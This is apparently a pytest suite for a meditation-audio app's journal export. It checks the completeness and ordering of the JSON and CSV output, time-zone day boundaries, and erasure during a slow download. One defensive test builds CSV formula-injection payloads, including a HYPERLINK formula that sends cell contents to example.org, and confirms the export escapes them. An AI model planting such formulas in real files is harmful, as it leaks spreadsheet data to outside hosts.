"""A journal to take along: complete, explained, and harmless in a spreadsheet."""

import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from journal_strategies import A_CHECK_IN, A_SITTING, LIKED, NOON, check_in, sitting

from audio_service.journal import (
    CHECK_IN_COLUMNS,
    SITTING_COLUMNS,
    Preferences,
    check_in_fields,
    erase,
    export_check_ins_csv,
    export_json,
    export_sittings_csv,
    open_notebook,
    playback_fields,
    set_playback,
    set_preferences,
    sitting_fields,
    write_check_in,
    write_sitting,
)

LATER = NOON + timedelta(hours=15)
COUNT = 450


@pytest.fixture
def listener(database):
    """Anna's journal, of more sittings than are read at once."""
    with database.begin() as db:
        notebook = open_notebook(db, "anna", "n", NOON)
        for number in range(COUNT):
            told = sitting(id=uuid.uuid4(), begun_at=NOON - timedelta(hours=number * 12), title=f"Sitting {number}")
            write_sitting(db, "anna", notebook, told, LATER)
        write_check_in(db, "anna", notebook, check_in(note="тише, calm", soothing=None), LATER)
        set_playback(db, "anna", LIKED)
        other = open_notebook(db, "ben", "m", NOON)
        write_sitting(db, "ben", other, sitting(title="Of another"), LATER)
    return "anna"


def read_csv(parts):
    text = "".join(parts)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_json_holds_everything_once_and_in_order_and_explains_itself(database, listener):
    parts = list(export_json(database, listener))
    assert len(parts) > COUNT
    found = json.loads("".join(parts))
    assert [one["title"] for one in found["sittings"]] == [f"Sitting {n}" for n in reversed(range(COUNT))]
    for kind, columns in (("sittings", SITTING_COLUMNS), ("check_ins", CHECK_IN_COLUMNS)):
        assert found["columns"][kind] == dict(columns)
        assert all(list(row) == list(columns) for row in found[kind])
    assert set(found["columns"]["preferences"]) == set(found["preferences"])
    assert set(found["columns"]["playback"]) == set(found["playback"])
    assert found["playback"] == playback_fields(LIKED)
    assert found["check_ins"][0]["note"] == "тише, calm"
    assert found["check_ins"][0]["soothing"] is None


def test_an_export_says_all_that_is_kept():
    """A field that is added to a sitting or a check-in must be exported, too."""
    assert set(sitting_fields(A_SITTING)) | {"day", "begun_local"} == set(SITTING_COLUMNS)
    assert set(check_in_fields(A_CHECK_IN)) | {"day", "made_local"} == set(CHECK_IN_COLUMNS)


def test_csv_has_the_same_rows_as_json(database, listener):
    held = json.loads("".join(export_json(database, listener)))
    for parts, kind in ((export_sittings_csv, "sittings"), (export_check_ins_csv, "check_ins")):
        rows = read_csv(parts(database, listener))
        assert [row["id"] for row in rows] == [one["id"] for one in held[kind]]
        assert list(rows[0]) == list(held[kind][0])
    row = read_csv(export_sittings_csv(database, listener))[-1]
    assert (row["heard"], row["counts"], row["zone"]) == ("600.0", "yes", "Europe/Berlin")
    assert (row["begun_at"], row["begun_local"]) == ("2026-03-01T12:00:00Z", "2026-03-01T13:00:00+01:00")
    assert read_csv(export_check_ins_csv(database, listener))[0]["soothing"] == ""


def test_days_are_those_of_the_listeners_choice(database, listener):
    with database.begin() as db:
        set_preferences(db, listener, Preferences(zone="Asia/Tokyo", day_begins=timedelta(hours=4)))
    found = json.loads("".join(export_json(database, listener)))
    assert found["preferences"]["day_begins"] == 240
    # 21:00 and 09:00 in Tokyo.
    assert [(one["begun_at"], one["day"]) for one in found["sittings"][-2:]] == [
        ("2026-03-01T00:00:00Z", "2026-03-01"),
        ("2026-03-01T12:00:00Z", "2026-03-01"),
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_a_title_that_a_spreadsheet_would_run_is_made_text(sqlite, start):
    title = f'{start}HYPERLINK("http://example.org?"&A1,"look")'
    with sqlite.begin() as db:
        notebook = open_notebook(db, "anna", "n", NOON)
        write_sitting(db, "anna", notebook, sitting(title=title, practice=f"{start}1"), LATER)
        write_check_in(db, "anna", notebook, check_in(note=title), LATER)
    (row,) = read_csv(export_sittings_csv(sqlite, "anna"))
    assert (row["title"], row["practice"]) == (f"'{title}", f"'{start}1")
    (made,) = read_csv(export_check_ins_csv(sqlite, "anna"))
    assert made["note"] == f"'{title}"
    assert json.loads("".join(export_json(sqlite, "anna")))["sittings"][0]["title"] == title


def test_a_listener_without_a_journal_gets_an_empty_one(database):
    found = json.loads("".join(export_json(database, "nobody")))
    assert (found["sittings"], found["check_ins"]) == ([], [])
    assert read_csv(export_sittings_csv(database, "nobody")) == []


def test_a_slow_download_holds_nothing_back(sqlite):
    """Whoever takes an hour to download neither hinders erasing nor gets what was erased meanwhile."""
    with sqlite.begin() as db:
        notebook = open_notebook(db, "anna", "n", NOON)
        for number in range(COUNT):
            told = sitting(id=uuid.uuid4(), begun_at=NOON - timedelta(hours=number * 12))
            write_sitting(db, "anna", notebook, told, LATER)
    parts = export_json(sqlite, "anna")
    begun = [next(parts) for _ in range(10)]
    assert erase(sqlite, "anna")
    found = json.loads("".join([*begun, *parts]))
    assert len(found["sittings"]) < COUNT
